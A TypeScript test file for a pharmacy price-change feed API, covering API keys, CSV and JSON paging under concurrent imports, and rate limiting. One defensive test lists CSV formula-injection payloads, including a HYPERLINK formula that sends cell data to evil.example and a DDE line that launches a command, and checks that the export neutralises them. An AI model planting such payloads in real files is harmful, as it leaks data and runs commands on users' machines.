import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { messages } from '../../server/http/messages';
import { applyMedicineChange } from '../../server/service/medicine-change';
import { defaultLimits } from '../../server/service/types';
import { backends, startServer, type TestServer, backendsFor } from './harness';
import { holdPriceWriter, staffUser, untilPriceLockQueued } from './ops-helpers';

type Entry = { cursor: string; category: string; medicineId: string; price: number; kind: string };

/** The rows of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

// behaviour §10.12: pharmacy software pulls the price entries published after its cursor.
describe.each(backendsFor('sql'))('the price change feed, on $name', (backend) => {
  let s: TestServer;
  let pharmacy: { token: string; mobile: string };
  let operator: string;
  let key: string;
  let meds: { id: string; code: string; price: number }[];
  beforeAll(async () => {
    s = await startServer(backend);
    pharmacy = await s.newUser();
    operator = (await staffUser(s, 'operator')).token;
    const made = await s.call('createApiKey', { token: pharmacy.token, body: { name: 'سامانه داروخانه' } });
    expect(made.status).toBe(201);
    key = made.json.key;
    meds = (
      await s.sql<{ id: string; code: string; price: string }>(
        `SELECT DISTINCT ON (irc_code) id::text, irc_code AS code, current_price_consumer::text AS price FROM medicines_b
         WHERE irc_code IS NOT NULL AND current_price_consumer > 0 ORDER BY irc_code, seq LIMIT 8`,
      )
    ).map((m) => ({ ...m, price: Number(m.price) }));
  });
  afterAll(async () => {
    await s?.close();
  });

  const feed = (query: Record<string, string | number | undefined>, apiKey = key) =>
    s.call('feedPriceChanges', { query, headers: { 'x-api-key': apiKey } });
  const hand = (i: number, price: number) =>
    applyMedicineChange(s.app.database, {
      category: 'B',
      medicineId: meds[i]!.id,
      price,
      at: new Date(),
      source: { kind: 'hand', reason: 'آزمون' },
    });

  it('keys are shown once and kept hashed; a revoked key is refused at once', async () => {
    // 32 random bytes, base64url (docs/security.md).
    expect(key).toMatch(/^drb_[A-Za-z0-9_-]{43}$/);
    const list = await s.call('listApiKeys', { token: pharmacy.token });
    expect(list.json.docs).toHaveLength(1);
    expect(JSON.stringify(list.json)).not.toContain(key);
    expect(await s.sql(`SELECT 1 FROM api_keys WHERE key_hash = $1 OR prefix = $1`, [key])).toEqual([]);
    expect((await feed({})).status).toBe(200);

    const other = (await s.call('createApiKey', { token: pharmacy.token, body: { name: 'دوم' } })).json;
    expect((await feed({}, other.key)).status).toBe(200);
    const revoked = await s.call('revokeApiKey', { token: pharmacy.token, params: { keyId: other.data._id } });
    expect(revoked.status).toBe(200);
    expect(revoked.json.data.revokedAt).not.toBeNull();
    const refused = await feed({}, other.key);
    expect(refused.status).toBe(401);
    expect(refused.json.message).toMatch(/باطل/);
    expect((await feed({}, 'drb_not-a-key')).status).toBe(401);
    expect((await s.call('feedPriceChanges', {})).status).toBe(401);
    // Another pharmacy cannot revoke this one's key.
    const stranger = await s.newUser();
    expect((await s.call('revokeApiKey', { token: stranger.token, params: { keyId: list.json.docs[0]._id } })).status).toBe(404);
  });

  it('a valid subscription is required', async () => {
    const lapsed = await s.newUser({ subscribed: false });
    const made = await s.call('createApiKey', { token: lapsed.token, body: { name: 'x' } });
    expect((await feed({}, made.json.key)).status).toBe(403);
  });

  it('answers JSON and CSV pages, oldest first, with the next cursor', async () => {
    await hand(0, meds[0]!.price + 11);
    await hand(1, meds[1]!.price + 12);
    const first = await feed({ limit: 1 });
    expect(first.json.docs).toHaveLength(1);
    expect(first.json.more).toBe(true);
    const csv = await feed({ since: first.json.next, limit: 1, format: 'csv' });
    expect(csv.status).toBe(200);
    expect(csv.response.headers['content-type']).toMatch(/^text\/csv/);
    const [header, line] = csv.response.body.trim().split('\r\n');
    expect(header).toBe('cursor,category,medicineId,code,name,oldPrice,price,insert_date,publishedAt,kind,importId');
    expect(line!.split(',')[0]).toBe(csv.response.headers['x-next-cursor']);
    expect(BigInt(csv.response.headers['x-next-cursor'] as string)).toBeGreaterThan(BigInt(first.json.next));
  });

  it('never misses nor repeats an entry across pages while an import is being published', async () => {
    const seen: string[] = [];
    let cursor = '0';
    const readPage = async () => {
      const page = await feed({ since: cursor, limit: 2 });
      expect(page.status).toBe(200);
      seen.push(...page.json.docs.map((d: Entry) => d.cursor));
      cursor = page.json.next;
      return page.json as { docs: Entry[]; more: boolean };
    };
    await readPage();
    // An import of five changes, previewed now, published below while another writer holds its entry open.
    const list = ['irc,price,date', ...meds.slice(2, 7).map((m) => `${m.code},${m.price + 100},2026-11-01`)].join('\n');
    const upload = await s.app.inject({
      method: 'POST',
      url: '/api/ops/v1/price-imports?catalogue=B&file_name=feed.csv',
      headers: { authorization: `Bearer ${operator}`, 'content-type': 'text/csv' },
      payload: list,
    });
    expect(upload.statusCode, upload.body).toBe(201);
    const importId = upload.json().data._id;

    const { release, done: held } = await holdPriceWriter(s, meds[7]!);
    const publishing = s.call('opsPublishPriceImport', { token: operator, params: { importId }, body: { allowErrors: false } });
    if (backend.name === 'postgres') {
      // The import waits for the price lock while the first writer's entry is uncommitted; a page read
      // now sees neither (without the lock the import would commit later entries first, and this page
      // would move the cursor past the held one).
      await untilPriceLockQueued(s);
      const before = cursor;
      await readPage();
      expect(cursor).toBe(before);
      release();
    } else {
      // PGlite runs one transaction at a time: the reads queue behind the writers, interleaved with them.
      release();
    }
    const reading = (async () => {
      for (let i = 0; i < 50 && (await readPage()).more; i++);
    })();
    await Promise.all([held, publishing, reading]);
    expect((await publishing).status).toBe(200);
    for (let i = 0; i < 50 && ((await readPage()).docs.length > 0 || i === 0); i++);

    const all = await s.sql<{ seq: string }>(`SELECT seq::text FROM price_entries WHERE kind <> 'seed' ORDER BY seq`);
    expect(seen).toEqual(all.map((r) => r.seq));
    expect(new Set(seen).size).toBe(seen.length);
    const imported = await s.sql<{ n: number }>(`SELECT count(*)::int AS n FROM price_entries WHERE import_id = $1`, [importId]);
    expect(imported[0]!.n).toBe(5);
  });

  it("CSV: a name a spreadsheet would run as a formula is written as text, as the pharmacist's export writes it", async () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?x="&A1,"برای دیدن کلیک کنید")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+2',
      '\r=1+2',
    ];
    const target = meds[7]!;
    for (const [i, text] of dangerous.entries()) {
      await s.sql(`UPDATE medicines_b SET brand_name_fa = $1 WHERE id = $2`, [text, target.id]);
      const before = (await feed({ limit: 1000 })).json.next as string;
      await hand(7, target.price + 30 + i);
      const csv = await feed({ since: before, format: 'csv' });
      expect(csv.status).toBe(200);
      const [header, row] = csvRows(csv.response.body);
      expect(row![header!.indexOf('name')], JSON.stringify(text)).toBe(`'${text}`);
    }
  });
});

// behaviour §12: the feed is rate-limited per client network and per key, on an injected clock.
describe.each(backends)('the change feed is rate-limited, on $name', (backend) => {
  let s: TestServer;
  let now = Date.parse('2026-06-01T08:00:00Z');
  let keys: string[];
  beforeAll(async () => {
    s = await startServer(backend, { clock: () => new Date(now) });
    const pharmacy = await s.newUser();
    keys = [];
    for (let i = 0; i < 3; i++) keys.push((await s.call('createApiKey', { token: pharmacy.token, body: { name: `کلید ${i}` } })).json.key);
  });
  afterAll(async () => {
    await s?.close();
  });
  const feed = (key: string | undefined, ip: string) =>
    s.call('feedPriceChanges', { query: { limit: 1 }, headers: key ? { 'x-api-key': key } : {}, ip });

  it(`one key: ${defaultLimits.feedPerKey} calls in ${defaultLimits.rateWindowSeconds / 60} minutes, from any addresses; then 429 with Retry-After until the window ends`, async () => {
    for (let i = 0; i < defaultLimits.feedPerKey; i++) expect((await feed(keys[0], `198.51.${i % 4}.${i}`)).status).toBe(200);
    const refused = await feed(keys[0], '192.0.2.99');
    expect(refused.status).toBe(429);
    expect(refused.json.message).toBe(messages.feed.tooManyCalls);
    const retryAfter = Number(refused.response.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(defaultLimits.rateWindowSeconds);
    // Another key of the same pharmacy is counted apart.
    expect((await feed(keys[1], '192.0.2.99')).status).toBe(200);
    now += retryAfter * 1000;
    expect((await feed(keys[0], '192.0.2.99')).status).toBe(200);
  }, 120_000);

  it(`one client network: ${defaultLimits.feedPerIp} calls in the window, whatever the keys (a missing or wrong one too)`, async () => {
    now += defaultLimits.rateWindowSeconds * 1000;
    const ip = '203.0.113.5';
    let answered = 0;
    for (let i = 0; i < defaultLimits.feedPerIp; i++) {
      const key = i % 10 === 9 ? (i % 20 === 19 ? undefined : 'drb_made-up') : keys[i % 3];
      const res = await feed(key, ip);
      expect(res.status, `call ${i + 1}`).not.toBe(429);
      answered++;
    }
    expect(answered).toBe(defaultLimits.feedPerIp);
    for (const key of [keys[2], 'drb_made-up', undefined]) {
      const refused = await feed(key, ip);
      expect(refused.status).toBe(429);
      expect(refused.json.message).toBe(messages.feed.tooManyCalls);
    }
    // Its neighbour is another network.
    expect((await feed(keys[2], '203.0.113.6')).status).toBe(200);
  }, 120_000);
});
